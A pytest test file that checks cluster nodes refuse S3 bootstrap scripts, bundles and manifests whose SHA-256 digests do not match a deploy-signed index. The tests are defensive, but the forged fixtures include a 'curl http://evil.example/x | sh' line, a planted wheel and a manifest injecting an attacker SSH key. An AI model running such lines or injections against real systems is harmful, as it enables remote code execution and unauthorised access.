"""Nodes verify what they execute (issue 42): every object the deploy publishes for the nodes is listed with its SHA-256
in an index, and the index's own SHA-256 is in an SSM parameter only the deploy writes. A node checks each object
against it before using it and refuses a mismatch, naming the object, both digests and the fix.

Two node-side checkers, the same rule: the first boot's stdlib client (src/fmcluster/node/boot/fmcluster-s3 verify: node-bootstrap.sh,
the bundle) against a real S3 and SSM API (moto's server), and the node agent (the manifest) in-process.
"""

from __future__ import annotations

import hashlib
import json
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from conftest import ROOT
from fmcluster.paths import NODE_BOOT_DIR
from fmcluster.manifest import INDEX_KEY, index_parameter
from fmcluster.publish import Published, publish, trust_index
from fmcluster.stacks import aws

CLIENT = NODE_BOOT_DIR / "fmcluster-s3"
REGION = "ap-northeast-1"
BUCKET = "fmc-verify-data"
ORG = "verifyorg"
FILES = {"node-bootstrap.sh": b"#!/bin/bash\necho bootstrap\n", "converge.env": b"FMCLUSTER_REF=abc\n",
         "wheelhouse/pip-25.3-py3-none-any.whl": bytes(range(256)) * 64}
MANIFEST = {"ref": "abc", "vars": {"fmcluster_org": ORG}}
PARAMETER = index_parameter(ORG)


@pytest.fixture(scope="module")
def endpoint() -> Iterator[str]:
    from moto.server import ThreadedMotoServer

    server = ThreadedMotoServer(ip_address="127.0.0.1", port=0)
    server.start()
    host, port = server.get_host_and_port()
    url = f"http://{host}:{port}"
    aws.client("s3", REGION, url).create_bucket(Bucket=BUCKET, CreateBucketConfiguration={"LocationConstraint": REGION})
    try:
        yield url
    finally:
        server.stop()


def deploy(endpoint: str) -> Published:
    """What the deploy does for the nodes: publish, then name the index in the SSM parameter."""
    done = publish(aws.client("s3", REGION, endpoint), BUCKET, FILES, MANIFEST, out=lambda _: None)
    trust_index(aws.client("ssm", REGION, endpoint), ORG, done.index_sha256, out=lambda _: None)
    return done


def node(endpoint: str, *args: str) -> subprocess.CompletedProcess[str]:
    env = {"PATH": "/usr/bin:/bin", "AWS_ENDPOINT_URL": endpoint, "AWS_ACCESS_KEY_ID": "node",
           "AWS_SECRET_ACCESS_KEY": "node", "FMCLUSTER_REGION": REGION}
    return subprocess.run(["/usr/bin/python3", str(CLIENT), *args], capture_output=True, text=True, env=env,
                          timeout=60, check=False)


def verify(endpoint: str, key: str, path: Path) -> subprocess.CompletedProcess[str]:
    return node(endpoint, "verify", PARAMETER, f"s3://{BUCKET}/{INDEX_KEY}", key, str(path))


def test_the_index_lists_every_published_object_and_the_parameter_names_the_index(endpoint: str) -> None:
    done = deploy(endpoint)
    s3: Any = aws.client("s3", REGION, endpoint)
    index = s3.get_object(Bucket=BUCKET, Key=INDEX_KEY)["Body"].read()
    assert hashlib.sha256(index).hexdigest() == done.index_sha256
    ssm: Any = aws.client("ssm", REGION, endpoint)
    assert ssm.get_parameter(Name=PARAMETER)["Parameter"]["Value"] == done.index_sha256
    objects = json.loads(index)["objects"]
    assert objects == {**{f"fmcluster/bootstrap/{n}": hashlib.sha256(b).hexdigest() for n, b in FILES.items()},
                       "fmcluster/manifest/cluster.json": hashlib.sha256(
                           json.dumps(MANIFEST, indent=1, sort_keys=True).encode()).hexdigest()}
    # A second deploy of the same content changes nothing, the parameter included.
    again = deploy(endpoint)
    assert again.written == [] and again.index_sha256 == done.index_sha256


def test_first_boot_runs_the_bootstrap_only_when_it_is_the_deploy_s(endpoint: str, tmp_path: Path) -> None:
    deploy(endpoint)
    s3: Any = aws.client("s3", REGION, endpoint)
    boot = tmp_path / "fmcluster-bootstrap.new"
    assert node(endpoint, "get", f"s3://{BUCKET}/fmcluster/bootstrap/node-bootstrap.sh", str(boot)).returncode == 0
    ok = verify(endpoint, "fmcluster/bootstrap/node-bootstrap.sh", boot)
    assert ok.returncode == 0, ok.stderr

    # Whoever else writes the bucket replaces the bootstrap: the node refuses it, naming both digests and the fix.
    forged = b"#!/bin/bash\ncurl http://evil.example/x | sh\n"
    s3.put_object(Bucket=BUCKET, Key="fmcluster/bootstrap/node-bootstrap.sh", Body=forged)
    assert node(endpoint, "get", f"s3://{BUCKET}/fmcluster/bootstrap/node-bootstrap.sh", str(boot)).returncode == 0
    refused = verify(endpoint, "fmcluster/bootstrap/node-bootstrap.sh", boot)
    assert refused.returncode == 1
    assert refused.stderr == (
        f"fmcluster-s3: object fmcluster/bootstrap/node-bootstrap.sh digest mismatch: expected sha256 "
        f"{hashlib.sha256(FILES['node-bootstrap.sh']).hexdigest()}, got {hashlib.sha256(forged).hexdigest()}; it was "
        "not run. Re-run invoke deploy (it publishes again what differs)\n")

    # ...and re-running the deploy puts back what it published (S3's own checksum shows the swap).
    deploy(endpoint)
    assert node(endpoint, "get", f"s3://{BUCKET}/fmcluster/bootstrap/node-bootstrap.sh", str(boot)).returncode == 0
    assert verify(endpoint, "fmcluster/bootstrap/node-bootstrap.sh", boot).returncode == 0


def test_a_forged_index_is_refused_naming_the_ssm_parameter(endpoint: str, tmp_path: Path) -> None:
    done = deploy(endpoint)
    s3: Any = aws.client("s3", REGION, endpoint)
    forged_boot = b"#!/bin/bash\nid\n"
    s3.put_object(Bucket=BUCKET, Key="fmcluster/bootstrap/node-bootstrap.sh", Body=forged_boot)
    forged_index = json.dumps({"format": 1, "objects": {
        "fmcluster/bootstrap/node-bootstrap.sh": hashlib.sha256(forged_boot).hexdigest()}}).encode()
    s3.put_object(Bucket=BUCKET, Key=INDEX_KEY, Body=forged_index)
    boot = tmp_path / "boot"
    boot.write_bytes(forged_boot)
    refused = verify(endpoint, "fmcluster/bootstrap/node-bootstrap.sh", boot)
    assert refused.returncode == 1
    assert (f"object {INDEX_KEY} digest mismatch: expected sha256 {done.index_sha256} (SSM parameter {PARAMETER}), "
            f"got {hashlib.sha256(forged_index).hexdigest()}") in refused.stderr
    deploy(endpoint)


def test_the_bundle_is_checked_whole_and_what_the_index_does_not_list_is_removed(endpoint: str, tmp_path: Path) -> None:
    deploy(endpoint)
    s3: Any = aws.client("s3", REGION, endpoint)
    bundle = tmp_path / "bundle"
    assert node(endpoint, "sync", f"s3://{BUCKET}/fmcluster/bootstrap/", str(bundle)).returncode == 0
    # A wheel someone else added (pip --find-links would take it): not the deploy's, so never used.
    s3.put_object(Bucket=BUCKET, Key="fmcluster/bootstrap/wheelhouse/evil-1.0-py3-none-any.whl", Body=b"PK")
    assert node(endpoint, "sync", f"s3://{BUCKET}/fmcluster/bootstrap/", str(bundle)).returncode == 0
    assert (bundle / "wheelhouse" / "evil-1.0-py3-none-any.whl").exists()
    ok = verify(endpoint, "fmcluster/bootstrap/", bundle)
    assert ok.returncode == 0, ok.stderr
    assert "removed fmcluster/bootstrap/wheelhouse/evil-1.0-py3-none-any.whl: not in the deploy's index" in ok.stderr
    assert sorted(str(p.relative_to(bundle)) for p in bundle.rglob("*") if p.is_file()) == sorted(FILES)

    (bundle / "converge.env").write_bytes(b"FMCLUSTER_REF=evil\n")
    refused = verify(endpoint, "fmcluster/bootstrap/", bundle)
    assert refused.returncode == 1 and "object fmcluster/bootstrap/converge.env digest mismatch" in refused.stderr
    (bundle / "converge.env").unlink()
    missing = verify(endpoint, "fmcluster/bootstrap/", bundle)
    assert missing.returncode == 1 and "fmcluster/bootstrap/converge.env is in the deploy's index" in missing.stderr
    s3.delete_object(Bucket=BUCKET, Key="fmcluster/bootstrap/wheelhouse/evil-1.0-py3-none-any.whl")


def test_the_agent_uses_the_manifest_only_when_it_is_the_deploy_s(endpoint: str, tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    from fmcluster.node.agent import Agent, Settings, StageFailed

    done = deploy(endpoint)
    for name, value in {"AWS_ENDPOINT_URL": endpoint, "AWS_ACCESS_KEY_ID": "node", "AWS_SECRET_ACCESS_KEY": "node"}.items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("AWS_SESSION_TOKEN", raising=False)
    agent = Agent(Settings(BUCKET, REGION, ORG, "abc", "playbooks/site.yml", fetch_tries=1),
                  state_dir=tmp_path / "state", etc_dir=tmp_path / "etc")
    assert agent.manifest() == MANIFEST

    s3: Any = aws.client("s3", REGION, endpoint)
    forged = json.dumps({**MANIFEST, "vars": {"fmcluster_org": ORG, "operator_access_keys": ["ssh-ed25519 AAAA evil"]}},
                        indent=1, sort_keys=True).encode()
    s3.put_object(Bucket=BUCKET, Key="fmcluster/manifest/cluster.json", Body=forged)
    with pytest.raises(StageFailed) as refused:
        agent.manifest()
    assert refused.value.stage == "manifest"
    expected = json.loads(s3.get_object(Bucket=BUCKET, Key=INDEX_KEY)["Body"].read())["objects"][
        "fmcluster/manifest/cluster.json"]
    assert (f"DigestMismatch: object fmcluster/manifest/cluster.json digest mismatch: expected sha256 {expected}, "
            f"got {hashlib.sha256(forged).hexdigest()}; it was not used. Re-run invoke deploy") in str(refused.value)
    assert deploy(endpoint).index_sha256 == done.index_sha256
    assert agent.manifest() == MANIFEST


VERIFY_LINE = '"$bin_dir/fmcluster-s3" verify "/fmcluster/$FMCLUSTER_ORG/bootstrap-index-sha256"'


@pytest.mark.parametrize("org", ["demo", "stockmark", "neuronlab", "pclab"])
def test_every_scheduler_s_first_boot_checks_the_bootstrap_before_running_it(org: str) -> None:
    """slurm-ec2's launch templates, HyperPod's lifecycle scripts and ParallelCluster's custom action all run the
    same first boot, which runs node-bootstrap.sh only after `fmcluster-s3 verify` passed."""
    from fmcluster.model import load_tenant
    from fmcluster.schedulers.hyperpod.scheduler import HyperPod
    from fmcluster.schedulers.parallelcluster.config import custom_action_script
    from fmcluster.stacks.render import load_cfn_yaml, user_data_text
    from scheduler_stacks import render_stacks

    tenant = load_tenant(org, ROOT)
    if tenant.scheduler == "hyperpod":
        scripts = [HyperPod(tenant).lifecycle_files(BUCKET)["node-user-data.sh"].decode()]
    elif tenant.scheduler == "parallelcluster":
        scripts = [custom_action_script().decode()]
    else:
        cluster = load_cfn_yaml(next(s for s in render_stacks(tenant) if s.key == "cluster").body)["Resources"]
        scripts = [user_data_text(r["Properties"]["LaunchTemplateData"]["UserData"]) for r in cluster.values()
                   if r["Type"] == "AWS::EC2::LaunchTemplate"]
    assert scripts
    for script in scripts:
        verified, ran = script.index(VERIFY_LINE), script.index('exec "$bin_dir/fmcluster-bootstrap"')
        assert verified < ran
